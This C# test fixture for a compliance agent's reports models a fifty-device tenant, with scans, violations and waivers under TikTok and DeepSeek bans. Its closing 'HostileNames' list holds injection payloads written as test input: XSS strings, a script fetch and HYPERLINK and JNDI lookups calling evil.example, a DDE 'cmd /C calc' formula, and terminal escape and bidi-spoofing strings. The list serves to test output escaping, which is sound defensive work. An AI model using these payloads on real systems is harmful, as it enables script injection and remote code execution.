using System.Collections.Immutable;
using System.Globalization;
using ComplianceAgent.Inventory;
using ComplianceAgent.Policies;
using ComplianceAgent.Reasons;
using ComplianceAgent.Reports;
using ComplianceAgent.Violations;
using ComplianceAgent.Violations.Exceptions;
using ComplianceAgent.Violations.Reviews;

namespace ComplianceAgent.Tests.Reports;

/// <summary>A tenant of fifty devices in which every coverage class and every state occurs.</summary>
internal static class ReportCases
{
    public const string Tenant = "contoso";

    public static readonly DateTimeOffset Now = new(2026, 11, 23, 6, 30, 0, TimeSpan.Zero);

    public static readonly DateTimeOffset ScanStart = new(2026, 11, 23, 2, 0, 0, TimeSpan.Zero);

    public static readonly Policy TikTok = new()
    {
        Id = "be-federal-tiktok",
        Title = ImmutableSortedDictionary<string, string>.Empty.Add("en", "TikTok on Belgian federal work devices"),
        Authority = "National Security Council",
        TimeZone = TimeZoneInfo.FindSystemTimeZoneById("Europe/Brussels"),
        RemoveBy = new DateOnly(2023, 3, 31),
        Rules = [new PolicyRule { Id = "tiktok", Product = "tiktok" }],
        Hash = new string('a', 64),
        Origin = "pack:be-federal-tiktok",
    };

    public static readonly Policy DeepSeek = TikTok with
    {
        Id = "be-federal-deepseek",
        Title = ImmutableSortedDictionary<string, string>.Empty.Add("en", "DeepSeek on Belgian federal work devices"),
        RemoveBy = new DateOnly(2026, 12, 1),
        Rules = [new PolicyRule { Id = "deepseek", Product = "deepseek" }, new PolicyRule { Id = "later", Name = "Later*", RemoveBy = new DateOnly(2026, 12, 15) }],
        Hash = new string('b', 64),
        Origin = "pack:be-federal-deepseek",
    };

    public static PolicySet Policies { get; } = new([TikTok, DeepSeek], Catalogue.Empty);

    /// <summary>Devices of each class, for the fleet and for both policies; each column sums to fifty.</summary>
    private static readonly (CoverageClass Class, string Reason, PlatformFamily Platform, DeviceOwner Owner, int Fleet, int TikTok, int DeepSeek)[] Partition =
    [
        (CoverageClass.Violating, "has-banned-app", PlatformFamily.IOS, DeviceOwner.Company, 5, 4, 2),
        (CoverageClass.Violating, "has-banned-app", PlatformFamily.Windows, DeviceOwner.Company, 1, 1, 0),
        (CoverageClass.Excepted, "has-exception", PlatformFamily.IOS, DeviceOwner.Company, 1, 1, 0),
        (CoverageClass.UnderReview, "waits-for-review", PlatformFamily.Windows, DeviceOwner.Company, 2, 1, 1),
        (CoverageClass.Advice, "advised-against", PlatformFamily.Android, DeviceOwner.Personal, 3, 3, 0),
        (CoverageClass.Clean, "assessed", PlatformFamily.Windows, DeviceOwner.Company, 20, 22, 29),
        (CoverageClass.PartlyObservable, "work-profile-only", PlatformFamily.Android, DeviceOwner.Company, 4, 4, 4),
        (CoverageClass.Stale, "not-synced", PlatformFamily.MacOS, DeviceOwner.Company, 3, 3, 3),
        (CoverageClass.NoInventory, "newly-enrolled", PlatformFamily.Windows, DeviceOwner.Company, 2, 2, 2),
        (CoverageClass.NoInventory, "no-app-rows", PlatformFamily.Unknown, DeviceOwner.Unknown, 1, 1, 1),
        (CoverageClass.NotObservable, "personal-device", PlatformFamily.IOS, DeviceOwner.Personal, 4, 4, 4),
        (CoverageClass.OutOfScope, "platform-out-of-scope", PlatformFamily.Other, DeviceOwner.Company, 2, 2, 2),
        (CoverageClass.NotManagedByIntune, "managed-by-another-agent", PlatformFamily.Windows, DeviceOwner.Company, 1, 1, 1),
        (CoverageClass.Duplicate, "enrolled-again", PlatformFamily.Windows, DeviceOwner.Company, 1, 1, 1),
    ];

    public static IReadOnlyList<CoverageCount> Coverage() =>
    [
        .. Partition.SelectMany(line => new[]
        {
            new CoverageCount("", line.Class, line.Reason, line.Platform, line.Owner, line.Fleet),
            new CoverageCount(TikTok.Id, line.Class, line.Reason, line.Platform, line.Owner, line.TikTok),
            new CoverageCount(DeepSeek.Id, line.Class, line.Reason, line.Platform, line.Owner, line.DeepSeek),
        }),
    ];

    public static ScanResult Scan(string foreign = "TikTok") => new()
    {
        Tenant = Tenant,
        Number = 7,
        StartedAt = ScanStart,
        FinishedAt = ScanStart.AddMinutes(4),
        InventoryAsOf = ScanStart,
        Route = InventoryRoute.Export,
        RouteReasons = [Reason.Of("export-is-default")],
        Complete = true,
        Notes = [Reason.Of("unknown-text", ("text", foreign))],
        Requests = new RequestCounts(31, 2, 2),
        Devices = 50,
        AppRows = 2964,
        DistinctApps = 811,
        SetAside = new Dictionary<string, SetAsideRows> { ["row-without-device"] = new(3, foreign) },
        Policies = [.. new[] { TikTok, DeepSeek }.Select(p => new PolicyInForce(p.Id, p.EnglishTitle, p.Hash, p.Authority, p.Origin))],
        CatalogueHash = new string('c', 64),
        Coverage = Coverage(),
        OpenViolations = 8,
        DevicesInViolation = 6,
    };

    public static Violation Violation(int number, Policy policy, ViolationState state = ViolationState.Open, DateTimeOffset? firstSeen = null, string foreign = "TikTok") => new()
    {
        Id = new Guid(number, 7, 7, [1, 2, 3, 4, 5, 6, 7, 8]),
        Tenant = Tenant,
        DeviceId = string.Create(CultureInfo.InvariantCulture, $"00000000-0000-0000-0000-{number % 100:D12}"),
        PolicyId = policy.Id,
        Subject = policy.Rules[0].Id,
        SubjectName = foreign,
        RuleId = policy.Rules[0].Id,
        PolicyHash = policy.Hash,
        State = state,
        Severity = Severity.Violation,
        Confidence = state == ViolationState.Review ? Confidence.Suspected : Confidence.Strong,
        App = new DistinctApp(Platform.IOS, foreign, foreign, foreign),
        Evidence = Reason.Of("name-and-publisher", ("name", foreign), ("publisher", foreign)),
        Device = new ManagedDevice
        {
            Id = "device", Name = foreign, UserPrincipalName = foreign, UserDisplayName = foreign, Category = foreign, SerialNumber = foreign,
            Platform = Platform.IOS, Owner = DeviceOwner.Company, EnrolledAt = Now.AddDays(-100),
        },
        FirstSeenAt = firstSeen ?? Now.AddDays(-30),
        InventoryAt = ScanStart.AddDays(-3),
        StateSince = firstSeen ?? Now.AddDays(-30),
        StateReason = Reason.Of("still-there", ("name", foreign)),
    };

    /// <summary>Eight open violations on six devices, and one or more of every other state.</summary>
    public static IReadOnlyList<Violation> Violations(string foreign = "TikTok") =>
    [
        Violation(1, TikTok, foreign: foreign),
        Violation(2, TikTok, foreign: foreign),
        Violation(3, TikTok, firstSeen: Now.AddDays(-1), foreign: foreign),
        Violation(4, TikTok, firstSeen: ScanStart, foreign: foreign),
        Violation(5, TikTok, foreign: foreign) with { NotConfirmedSince = Now.AddDays(-9) },
        Violation(6, TikTok, foreign: foreign) with { ReturnCount = 2, StateSince = ScanStart },
        Violation(101, DeepSeek, foreign: foreign),
        Violation(102, DeepSeek, foreign: foreign) with { RuleId = "later" },
        Violation(7, TikTok, ViolationState.Excepted, foreign: foreign) with { StateReason = Reason.Of("exception-applies", ("exception", "store:1"), ("reason", "research")) },
        Violation(8, TikTok, ViolationState.Review, foreign: foreign),
        Violation(9, DeepSeek, ViolationState.Review, foreign: foreign),
        Violation(10, TikTok, ViolationState.Resolved, foreign: foreign),
        Violation(11, TikTok, ViolationState.Resolved, foreign: foreign),
        Violation(12, TikTok, ViolationState.Withdrawn, foreign: foreign),
        Violation(13, TikTok, ViolationState.NoLongerManaged, foreign: foreign),
    ];

    /// <summary>One that excuses a violation, and one that was revoked.</summary>
    public static ImmutableArray<WaiverStanding> Exceptions(string foreign = "TikTok")
    {
        var granted = new Waiver
        {
            Reference = "store:1",
            Ask = new WaiverAsk
            {
                PolicyId = TikTok.Id, Subject = "tiktok", Target = new WaiverTarget(WaiverTargetKind.User, foreign), ReasonCode = "research", Why = foreign, From = new DateOnly(2026, 11, 1),
                Until = new DateOnly(2026, 12, 30), Mitigations = [foreign],
            },
            State = WaiverState.Approved,
            Requester = new Author(foreign, Author.OsAccount),
            RequestedAt = Now.AddDays(-9),
            Approver = new Author(foreign, Author.SignedIn),
            ApproverRole = foreign,
            ApprovedAt = Now.AddDays(-8),
            DecisionReason = foreign,
        };
        var revoked = granted with
        {
            Reference = "store:2", State = WaiverState.Revoked, EndedBy = new Author(foreign, Author.Register), EndedAt = Now.AddDays(-1), Ask = granted.Ask with { Target = WaiverTarget.Fleet, Subject = "" },
        };
        var standing = new WaiverStanding
        {
            Waiver = granted, Status = WaiverStatus.InForce, EndsAt = Now.AddDays(37.7), EndsSoon = false, DaysLeft = 38, Violations = 1, Devices = 1, Faults = [],
        };
        return [standing, standing with { Waiver = revoked, Status = WaiverStatus.Revoked, Violations = 0, Devices = 0 }];
    }

    public static ReportInput Input(string foreign = "TikTok") => new()
    {
        Tenant = Tenant,
        LastScan = Scan(foreign),
        LastCompleteScan = Scan(foreign),
        Violations = Violations(foreign),
        Exceptions = Exceptions(foreign),
        Policies = Policies,
        Now = Now,
        ProductVersion = "1.2.3",
    };

    public static ReportModel Model(string foreign = "TikTok") => ReportModel.Build(Input(foreign));

    /// <summary>Names that strangers might choose, each against another format.</summary>
    public static IReadOnlyList<string> HostileNames { get; } =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</style><script src=//evil.example></script>", "' onmouseover='x", "&lt;b&gt; &amp;",
        "<!-- ", "]]>", "</td></tr></table>", "</bdi></main>", "<svg/onload=alert(1)>", "javascript:alert(1)", "a\u202Ecod.exe", "\u2066x", "\u0000NUL", "\uD800 lone", "lone \uDC00",
        "\uFFFE\uFFFF", "\u001B]52;c;eA==\u0007", "\u009B31m", "a\u2028b\u2029c", "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1", "\u00A0=1", "\u3000=1", "\u200B=1", "\uFEFF=1",
        "x;=HYPERLINK(\"http://evil.example\")", "x;\"=1+1\"", "x;\"\"=1", "x;", "x;\t", "x\t=cmd|' /C calc'!A0", "x\r\n=1", "x\r\n\r\n=1", "x,=1", "\",=1", "x\"", "\"", ";;=1", "x; \t\"=1\"", "＝1", "x;＋1",
        "{name}", "${jndi:ldap://evil.example}", "[/]", "[red]x[/]", "抖音", "🎵TikTok🎵", "تيك توك", new string('x', 512), new string('=', 300),
    ];
}
